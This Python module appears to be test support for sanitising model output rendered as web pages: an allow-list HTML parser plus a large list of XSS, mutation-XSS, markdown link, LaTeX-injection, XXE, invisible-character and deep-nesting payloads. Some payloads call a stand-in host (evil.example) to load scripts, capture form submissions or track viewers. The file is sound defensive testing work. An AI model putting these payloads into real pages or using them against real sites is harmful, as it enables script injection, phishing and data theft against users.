"""What model output might try, and the list that pages hold to, written down apart from the one that is kept."""

import re
from html.parser import HTMLParser

ATTRIBUTES = {
    "a": {"href", "rel", "target"},
    "pre": {"class", "dir"},
    "code": {"class"},
    "div": {"class"},
    "span": {"class", "dir", "title"},
    "mark": {"class"},
    "p": {"class", "dir"},
    "ol": {"start", "dir"},
    **{tag: {"dir"} for tag in ("h3", "h4", "h5", "h6", "ul", "blockquote", "table")},
    **{tag: {"class", "dir"} for tag in ("td", "th")},
    **{tag: set() for tag in ("br", "em", "hr", "li", "s", "strong", "tbody", "thead", "tr")},
}
_MATHS = """
math mrow mi mn mo ms mtext mspace mfrac msqrt mroot mstyle mpadded mphantom msub msup msubsup munder mover
munderover mmultiscripts mprescripts mtable mtr mtd
"""
MATHS = set(_MATHS.split())
_MATHS_ATTRIBUTES = """
display displaystyle scriptlevel mathvariant stretchy fence separator form symmetric largeop movablelimits
accent accentunder linethickness lspace rspace minsize maxsize width height depth voffset class
"""
MATHS_ATTRIBUTES = set(_MATHS_ATTRIBUTES.split())
CLASS = re.compile(
    r"control|image|address|table|formula|code|plain|tex|differs|unused|boxed|struck|aligned|left|center|right"
    r"|line-below|line-after|[a-z][a-z0-9]{0,2}"
)
VALUE = re.compile(r"[\w.+ -]{1,40}")
UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff]")


class ListedHtml(HTMLParser):
    """Reads HTML and refuses whatever is not on the list, what is not closed, and characters that cannot be seen.

    `words` is the text, `elements` how often each is there.
    """

    def __init__(self, html):
        super().__init__()
        self.open, self.words, self.elements, self.links = [], "", [], []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag, attributes):
        assert tag in ATTRIBUTES or tag in MATHS, tag
        self.elements.append(tag)
        for name, value in attributes:
            assert name in ATTRIBUTES.get(tag, MATHS_ATTRIBUTES), (tag, name)
            assert not UNSEEN.search(value), (tag, name, value)
            if name == "href":
                assert re.match(r"(?i)(https?:|mailto:)", value), value
                self.links.append(value)
            elif name == "class":
                assert all(CLASS.fullmatch(one) for one in value.split()), value
            elif name == "dir":
                assert value in ("auto", "ltr", "rtl")
            elif name == "rel":
                assert set(value.split()) == {"noopener", "noreferrer", "nofollow"}
            elif name != "title":
                assert VALUE.fullmatch(value), (tag, name, value)
        if tag == "a":
            assert dict(attributes)["rel"]
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, text):
        assert not UNSEEN.search(text)
        self.words += text

    def handle_comment(self, text):
        raise AssertionError(f"a comment: {text}")

    handle_decl = handle_pi = unknown_decl = handle_comment


ATTACKS = [
    # OWASP's sheet of filter evasions.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<div style=\"background:url('https://evil.example')\">",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<form action=https://evil.example><button>Sign in</button></form>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<a href=javascript:alert(1)>x</a>",
    "<!--[if gte IE 4]><SCRIPT>alert(1)</SCRIPT><![endif]-->",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "</div></main></body><h1>Sign in again</h1>",
    # Mutations: harmless as parsed once, harmful as parsed again.
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math href=javascript:alert(1)>CLICK</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    # Links and images of markdown.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/sign-out)",
    "[x](sign-out?all=1)",
    "[x](#top)",
    '[x](https://a.example "t\\" onmouseover=alert(1) x=\\"")',
    '[x](https://a.example/"onclick=alert(1)//)',
    "[x](https://a.example/<script>)",
    "<javascript:alert(1)>",
    '<https://a.example/?q="><script>alert(1)</script>>',
    "[x]\n\n[x]: javascript:alert(1) 'hidden'",
    "[x]\n\n[x]: https://a.example 'onload=\"x\"'",
    "[y]: https://a.example (<img src=x onerror=alert(1)>)",
    "![x](https://evil.example/who.png?annotator=7)",
    "![<img src=x onerror=alert(1)>](javascript:alert(1))",
    '![x](https://a.example/"onerror=alert(1)//)',
    "[![x](https://evil.example/a.png)](https://a.example)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    # Code.
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```python onload=alert(1)\nx = '</span><script>'\n```",
    "`</code><script>alert(1)</script>`",
    "    </code></pre><img src=x onerror=alert(1)>",
    # Tables.
    '|<script>|b|\n|:-"onload=x|--:|\n|</td><img src=x>|`|`|',
    # Formulas: the library escapes nothing.
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"\(\text{</mtext></math><script>alert(1)</script>}\)",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\unicode{<script>}$",
    r"$\unicode{x3c}script$",
    r"$\style{background:url(https://evil.example)}{x}$",
    r"$\class{formula}{x}\cssId{x}{y}$",
    r"$\color{red\" onclick=\"alert(1)}x$",
    r"$\textcolor{<script>}{x}$",
    r"$\fcolorbox{a}{b}{<img src=x onerror=alert(1)>}$",
    r"$\hbox{<svg onload=alert(1)>}\mbox{&lt;script&gt;}\fbox{<b>}\llap{<i>}$",
    r"$\tag{<script>alert(1)</script>}$",
    r"$\operatorname{<script>}$",
    r"$\verb|<script>alert(1)</script>|$",
    r"$\rule{9999em}{9999em}\hspace{-9999px}\kern-99em\raise99em x$",
    r"$\left<script\right>$",
    r"$&#60;script&#62;$",
    "$\\text{\u202e\u200b}$",
    "$\\text{\x00\ufffe\ud800}$",
    r"$\def\a{\a\a}\a$",
    r"$\newcommand{\a}{\a}\a$",
    "```math\n\\text{<script>}\n```",
    r"\[ <script>alert(1)</script> \]",
    r"$$\begin{array}{c\"onload=alert(1)}<b>&</b>\end{array}$$",
    r"\begin{align}\text{<img src=x onerror=y>}&\end{align}",
    # Direction, and what cannot be seen.
    "a\u202eb\u202c \u2066c\u2069 \u200e\u200f\u061c",
    "&#x202E;&#8238;&#x200B;&ZeroWidthSpace;&lrm;&NoBreak;",
    "[\u202emoc.elpmaxe](https://a.example/\u202e)",
    "`\u202e` ![\u202e](https://a.example/\u202e)",
    "```python\naccess = 'user\u202e \u2066# admin\u2069 \u2066'\n```",
    "\ufeff\u200b\u200c\u200d\u2060\u00ad\u180e\u3164\U000e0041\U000e0100",
    "\x00\x07\x1b[31m\x7f\x85\x0b\x0c\u2028\u2029",
    "\ud83d \udc00 \ufdd0 \uffff",
    # Nesting.
    "> " * 2000 + "x",
    "- " * 2000 + "x",
    "[" * 10_000,
    "![" * 5_000,
    "[a](" * 3_000,
    "*a _b " * 4_000,
    "`" * 3_000 + "a" + "`" * 2_999,
    "\\(" * 10_000,
    "\\[" * 10_000,
    "$a" * 10_000,
    "$$\n" * 5_000,
    "\\[\n" * 5_000,
    "\\begin{align}\n" * 3_000,
    "$" + r"\sqrt{" * 300 + "x" + "}" * 300 + "$",
    "$" + "{" * 1_500 + "x" + "}" * 1_500 + "$",
    "$" + "x^{" * 500 + "}" * 500 + "$",
    "$" + r"\left(" * 300 + r"\right)" * 300 + "$",
    "$" + "x" * 5_000 + "$",
    "<" * 10_000,
    "&" * 10_000,
    "|" * 3_000 + "\n" + "|-" * 3_000,
]

FRAGMENTS = [
    *(
        "<script>",
        "</script>",
        "<img src=x onerror=y>",
        "<b>",
        "</",
        "<!--",
        "-->",
        "<math>",
        "<svg>",
        "&lt;",
        "&#x202e;",
    ),
    *(
        "[",
        "]",
        "(",
        ")",
        "](",
        "![",
        "javascript:",
        "https://a.example",
        "data:",
        "<https://b.example>",
        '"',
        "'",
        "]: ",
    ),
    *(
        "*",
        "**",
        "_",
        "~~",
        "`",
        "```",
        "```python\n",
        "```math\n",
        "\n",
        "\n\n",
        "    ",
        "> ",
        "- ",
        "1. ",
        "# ",
        "---",
    ),
    *(
        "|",
        "|-|-|",
        "\\",
        "\\\\",
        "$",
        "$$",
        r"\(",
        r"\)",
        r"\[",
        r"\]",
        r"\begin{align}",
        r"\end{align}",
        "&",
        "{",
        "}",
    ),
    *(
        r"\text{",
        r"\frac",
        r"\sqrt",
        r"\left(",
        r"\right)",
        r"\boxed{",
        "^",
        "_{",
        r"\begin{array}{c|c}",
        r"\end{array}",
    ),
    *(
        r"\href{",
        r"\unicode{",
        r"\color{",
        r"\style{",
        r"\hspace{",
        r"\tag{",
        r"\operatorname{",
        r"\mathbb{",
        r"\hline",
    ),
    *("\u202e", "\u200b", "\u200d", "\ufeff", "\x00", "\ud800", "\r", "\t", "é", "好", "ש", "👩", "a", "x y", "1", " "),
]
